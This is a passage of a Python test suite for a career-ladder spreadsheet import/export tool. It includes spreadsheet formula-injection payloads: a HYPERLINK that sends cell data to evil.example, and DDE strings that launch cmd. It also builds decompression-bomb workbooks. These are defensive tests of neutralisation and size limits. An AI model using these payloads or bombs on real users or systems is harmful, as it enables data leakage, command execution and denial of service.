        second = import_sheet(str(second_sheet))
    # Same file name: the two ladder files are the same, ids and texts and all, except for
    # cell references (an export groups the rows of an area that the sheet had apart).
    assert without_cells(yaml.safe_load(second.text)) == without_cells(yaml.safe_load(first.text))
    assert content(second.ladder) == content(ladder)


def test_help_stays_fast_without_openpyxl() -> None:
    code = "import sys, pmframework.cli; sys.exit('openpyxl' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


# --- formulas in CSV ---------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for the ladder")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "- a bullet",
    "'=already quoted",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_export_neutralises_formulas_and_import_restores_them(
    run_cli: RunCli, tmp_path: Path, text: str
) -> None:
    data = yaml.safe_load(Path(ACME).read_text(encoding="utf-8"))
    data["areas"][0]["name"] = text
    level = data["tracks"][0]["levels"][0]
    level["expectations"]["prioritization"]["criteria"] = [text]
    ladder = tmp_path / "ladder.yaml"
    ladder.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    sheet = tmp_path / "ladder.csv"
    assert run_cli("export", str(ladder), "-o", str(sheet), "--track", "ic").exit_code == 0
    cells = [c for row in csv.reader(io.StringIO(sheet.read_text("utf-8-sig"))) for c in row]
    assert "'" + text in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    back = import_sheet(str(sheet)).ladder
    assert back.areas[0].name == text
    assert back.levels[0].expectations["prioritization"].criteria[0].text == text


@given(st.text(max_size=12))
def test_neutralising_a_cell_is_undone_exactly(text: str) -> None:
    neutral = neutralize_formula(text)
    assert neutral[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert restore_formula(neutral) == text


@given(st.lists(st.text(alphabet=st.sampled_from("ab ,\"\r\n='-")), min_size=1, max_size=4))
def test_the_row_of_metadata_is_written_as_any_csv_row(chunks: list[str]) -> None:
    # The row of metadata is quoted by hand, for speed: exactly as the CSV writer quotes.
    texts = [METADATA_MARK, *chunks]
    ladder = load_ladder(ACME)
    table = dataclasses.replace(track_table(ladder, ladder.tracks[0]), metadata=tuple(texts))
    stream = io.StringIO(newline="")
    writer = csv.writer(stream, lineterminator="\r\n")
    writer.writerows(
        [neutralize_formula(text) for text in row] for row in (texts, table.header, *table.rows)
    )
    assert csv_bytes(table) == stream.getvalue().encode("utf-8-sig")


# --- sheets past the limits, and cells that cannot be read ------------------------------------


def refused(run_cli: RunCli, sheet: Path) -> str:
    """The one error line of importing ``sheet``; nothing written."""
    out = sheet.parent / "out.yaml"
    result = run_cli("import", str(sheet), "-o", str(out))
    assert result.exit_code == 1, result.stdout
    assert result.stderr.count("\n") == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert not out.exists()
    return result.stderr.removeprefix("pmframework: error: ").rstrip("\n")


def workbook_with_rows(path: Path, rows: str, dimension: str | None = None) -> None:
    """A workbook whose one sheet, 'Ladder', holds the XML ``rows`` (highly compressible)."""
    extent = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet_xml = f'<worksheet xmlns="{SHEET_NS}">{extent}<sheetData>{rows}</sheetData></worksheet>'
    workbook = openpyxl.Workbook()
    workbook.active.title = "Ladder"
    workbook.active["A1"] = "Competency"
    buffer = io.BytesIO()
    workbook.save(buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            part = sheet_xml.encode() if info.filename.endswith("sheet1.xml") else source.read(info)
            out.writestr(info.filename, part)


SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TEXT_CELL = '<c t="inlineStr"><is><t>x</t></is></c>'


def test_a_workbook_that_inflates_to_many_rows_is_refused_by_its_declared_extent(
    run_cli: RunCli, tmp_path: Path
) -> None:
    rows = f"<row>{TEXT_CELL * 36}</row>" * 12_000  # 16 MB of XML in a zip of a few hundred KB
    path = tmp_path / "bomb.xlsx"
    workbook_with_rows(path, rows, "A1:AJ12000")
    assert path.stat().st_size < 500_000
    # The message names the declared extent: no cell was read to find it out.
    assert refused(run_cli, path) == (
        f"{path}: sheet 'Ladder' declares that its cells span A1:AJ12000: more than 10,000 "
        "rows; is this a ladder? (delete the rows past the ladder)"
    )


def test_a_workbook_that_hides_its_extent_is_refused_as_its_cells_are_read(
    run_cli: RunCli, tmp_path: Path
) -> None:
    rows = f"<row>{TEXT_CELL * 36}</row>" * 12_000
    path = tmp_path / "bomb.xlsx"
    workbook_with_rows(path, rows)
    # Refused at the first cell past a limit, not after reading all 432,000.
    assert refused(run_cli, path) == (
        f"{path}:1834:13: sheet 'Ladder', cell M1834: more than 66,000 cells with text; "
        "is this a ladder?"
    )


def test_a_sheet_of_empty_elements_is_refused(run_cli: RunCli, tmp_path: Path) -> None:
    path = tmp_path / "rows.xlsx"
    rows = "<row/>" * 600_000
    workbook_with_rows(path, rows)
    assert refused(run_cli, path) == (
        f"{path}: sheet 'Ladder' is more than 500,000 XML elements; is this a ladder?"
    )


def test_a_csv_of_millions_of_cells_is_refused(run_cli: RunCli, tmp_path: Path) -> None:
    path = tmp_path / "cells.csv"
    path.write_bytes(b"a," * (5 * 1024 * 1024))  # 10 MiB, one line
    assert refused(run_cli, path) == f"{path}:1:1: more than 150,000 cells; is this a ladder?"
    # Ten to a row, so that the limit on cells with text comes before the one on rows.
    path.write_bytes(b"a,a,a,a,a,a,a,a,a,a\n" * 10_000)
    assert refused(run_cli, path) == (
        f"{path}:6601:1: sheet 'cells', cell A6601: more than 66,000 cells with text; "
        "is this a ladder?"
    )


@pytest.mark.parametrize("length", [100_001, 200_000])  # below and past the CSV reader's limit
def test_an_over_long_csv_cell_is_reported_at_its_cell(
    run_cli: RunCli, tmp_path: Path, length: int
) -> None:
    path = tmp_path / "long.csv"
    path.write_text(
        f'Competency,Junior,Senior\nStrategy,Knows it.,Sets it.\nData,Reads it.,"{"x" * length}"\n',
        encoding="utf-8",
    )
    message = refused(run_cli, path)
    assert message.startswith(f"{path}:3:3: sheet 'long', cell C3: more than 100,000 characters"), (
        message
    )


def test_an_over_long_xlsx_cell_is_reported_at_its_cell(run_cli: RunCli, tmp_path: Path) -> None:
    # Excel keeps a cell to 32,767 characters (openpyxl's writer too); others may not.
    def cell(ref: str, text: str) -> str:
        return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'

    rows = "".join(
        f'<row r="{n}">{cell(f"A{n}", "Skill")}{cell(f"B{n}", "x" * (100_001 if n == 7 else 9))}'
        "</row>"
        for n in range(2, 9)
    )
    header = f'<row r="1">{cell("A1", "Competency")}{cell("B1", "Junior")}</row>'
    path = tmp_path / "book.xlsx"
    workbook_with_rows(path, header + rows)
    assert refused(run_cli, path) == (
        f"{path}:7:2: sheet 'Ladder', cell B7: more than 100,000 characters (100,001); "
        "a ladder's statement is a paragraph or a few"
    )


@pytest.mark.parametrize(
    ("text", "where", "problem"),
    [
        (
            'Competency,Junior,Senior\nStrategy,"Knows it.,Sets it.\nData,Reads it.,Owns it.\n',
            "4:10",
            "is never closed",
        ),
        (
            'Competency,Junior,Senior\nStrategy,"Knows it.,Sets it.\nData,"Reads" it.,Owns it.\n',
            "4:10",
            "is closed before the end of its cell",
        ),
    ],
)
def test_an_unterminated_quote_is_an_error_where_it_opened(
    run_cli: RunCli, tmp_path: Path, text: str, where: str, problem: str
) -> None:
    path = tmp_path / "quote.csv"
    # A first line, so that the record and the line numbers differ from the start.
    path.write_text('"Product ladder\n2024"\n' + text, encoding="utf-8")
    assert refused(run_cli, path) == (
        f"{path}:{where}: the quote that opens this cell {problem}, so the cell would run on "
        'into the next ones; close it (a quote inside a quoted cell is written twice: "")'
    )


def test_a_sheet_of_too_many_statements_is_refused(run_cli: RunCli, tmp_path: Path) -> None:
    path = tmp_path / "many.csv"
    rows = [["Competency", "Junior", "Senior"]]
    rows += [[f"Skill {n}", "Knows.\n\n" * 3_000, "Sets."] for n in range(1, 25)]
    stream = io.StringIO(newline="")
    csv.writer(stream).writerows(rows)
    path.write_text(stream.getvalue(), encoding="utf-8")
    assert refused(run_cli, path) == (
        f"{path}:18:2: sheet 'many', cell B18: more than 50,000 statements (paragraphs) up to "
        "here; is this a ladder?"
    )


def test_a_workbook_of_too_many_shared_texts_is_refused(run_cli: RunCli, tmp_path: Path) -> None:
    # The texts of cells are kept in one table for the whole workbook, read before any sheet.
    path = tmp_path / "texts.xlsx"
    workbook_with_rows(path, '<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
    with zipfile.ZipFile(path) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    parts["xl/sharedStrings.xml"] = (
        f'<sst xmlns="{SHEET_NS}">' + "<si><t>x</t></si>" * 150_001 + "</sst>"
    ).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, part in parts.items():
            out.writestr(name, part)
    assert refused(run_cli, path) == (
        f"{path}: the workbook's table of texts is more than 150,000 texts or 500,000 XML "
        "elements; is this a ladder?"
    )


def write_rows(path: Path, rows: list[list[str]]) -> Path:
    stream = io.StringIO(newline="")
    csv.writer(stream).writerows(rows)
    path.write_text(stream.getvalue(), encoding="utf-8")
    return path


def test_the_largest_sheet_within_the_limits_imports_as_a_ladder_that_validates(
    run_cli: RunCli, tmp_path: Path
) -> None:
    # 5,000 competencies x 10 levels with an area each: 50,000 statements, just within the
    # limit, 60,012 cells with text and 6.5 million characters. A company's ladder of 5,000
    # competencies x 10 levels fits; so does the file written from it, within every limit of
    # the loader, so that the ladder an import writes can always be validated.
    filler = "writes the strategy that the team follows, and revisits it with them each quarter"

    def cell(competency: int, level: int) -> str:
        return f"At level {level:02d}, competency {competency:04d}: {filler}; {filler}."[:127] + "."

    assert len(cell(0, 1)) == 128
    header = ["Area", "Competency", *(f"Level {n}" for n in range(1, 11))]
    rows = [
        [f"Area {c % 50}", f"Competency {c}", *(cell(c, n) for n in range(1, 11))]
        for c in range(5_000)
    ]
    sheet = write_rows(tmp_path / "large.csv", [header, *rows])
    out = tmp_path / "large.yaml"
    result = run_cli("import", str(sheet), "-o", str(out))
    assert result.exit_code == 0, result.stderr
    assert result.stdout.startswith(f"wrote {out}: 10 levels, 5000 competencies in 50 areas")
    assert validate_paths([str(out)]).findings == []


def test_an_import_finds_what_validate_finds_in_the_file_it_writes_at_the_cells(
    tmp_path: Path,
) -> None:
    # The imported data is checked as it is, without reading the written file back: the
    # findings are the ones validate reports on that file, each placed at its sheet's cell.
    rows = [
        ["Competency", "Junior", "Senior"],
        ["Discovery", "Talks to users.", "TBD"],
        ["Delivery", "Ships small changes.", ""],
        ["Writing", "Writes **clear notes.", "Writes the team's specs."],
    ]
    sheet = write_rows(tmp_path / "ladder.csv", rows)
    out = tmp_path / "ladder.yaml"
    imported = import_sheet(str(sheet), output_name=str(out))
    out.write_text(imported.text, encoding="utf-8")
    validated = validate_paths([str(out)]).findings

    def what(findings: Any) -> list[tuple[str, str, str, Any]]:
        return sorted((f.rule, f.severity, f.message, f.json_path) for f in findings)

    assert what(imported.warnings) == what(validated)
    assert {f.rule for f in imported.warnings} == {"PMF201", "PMF202", "PMF204"}
    placeholder = next(f for f in imported.warnings if f.rule == "PMF202")
    assert (placeholder.file, placeholder.line, placeholder.column) == (str(sheet), 2, 3)  # C2


def test_an_import_whose_ladder_file_would_be_too_large_to_validate_is_refused(
    run_cli: RunCli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Characters of three bytes each can make the YAML larger than the loader reads, though
    # the sheet is within its limits: it is refused before anything is written.
    monkeypatch.setattr("pmframework.load.document.MAX_FILE_BYTES", 2 * 1024 * 1024)
    rows = [["Competency", "Junior"], *([f"Skill {n}", "設計" * 20_000] for n in range(20))]
    sheet = write_rows(tmp_path / "wide.csv", rows)
    message = refused(run_cli, sheet)
    assert message == (
        f"{sheet.parent / 'out.yaml'}: file is 2.3 MiB; pmframework reads ladders of up to 2 MiB"
    )


# --- the YAML an import writes -----------------------------------------------------------------

texts = st.text(st.characters(exclude_categories=("Cs",)), max_size=20) | st.sampled_from(
    ["1e5", "0.1.0", "yes", "No", "~", "null", "- a", "a: b", "a #b", "'Eng'!B2", "a\n\n b\n"]
)
ladder_values = st.recursive(
    texts | st.integers(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(texts, inner, max_size=4),
    max_leaves=30,
)


@settings(max_examples=300, deadline=None)
@given(ladder_values)
def test_the_yaml_an_import_writes_reads_back_as_the_same_values(value: Any) -> None:
    # Texts that look like numbers, booleans, keys or comments, quotes, line and paragraph
    # breaks, empty lists and mappings: each comes back as written, at any depth, both to the
    # ladder loader and to PyYAML (YAML 1.1).
    text = yaml_text({"value": value})
    assert yaml.safe_load(text) == {"value": value}
    assert parse_document("ladder.yaml", text).data == {"value": value}


def test_the_yaml_an_import_writes_reads_like_the_sheet() -> None:
    # Texts plain where they can be, a cell of several paragraphs as a block of lines.
    data = {"id": "discovery", "rank": 2, "text": "Talks to users.\n\nExample: weekly", "x": []}
    assert yaml_text(data) == (
        "id: discovery\nrank: 2\ntext: |-\n  Talks to users.\n\n  Example: weekly\nx: []\n"
    )
